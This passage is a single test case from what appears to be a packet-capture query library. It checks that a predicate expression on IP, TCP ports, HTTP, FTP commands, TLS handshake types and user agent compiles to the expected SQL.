    Case("pkt_predicates", st(lambda p: p.where((pk.compare("ip.addr", "==", "10.2.0.0/24") & pk.compare("tcp.port", ">", 1010) & pk.compare("tcp.dstport", "!=", 443)
                                                 & (pk.present("http") | pk.matches("ftp.request.command", "^user|pass$") | pk.one_of("tls.handshake.type", [1, "0x2"])))
                                                & ~pk.contains("http.user_agent", "nikto"))), "frame_number:i proto:s", W + """ SELECT frame_number, proto FROM ev WHERE proto = 'tcp' AND (src_port > 1010 OR dst_port > 1010) AND dst_port <> 443
  AND (f_req IS NOT NULL OR f_resp IS NOT NULL OR f_cmd IS NOT NULL OR f_tls IN ('1', '2')) AND coalesce(f_ua, '') NOT LIKE 'Nikto%'"""),
]
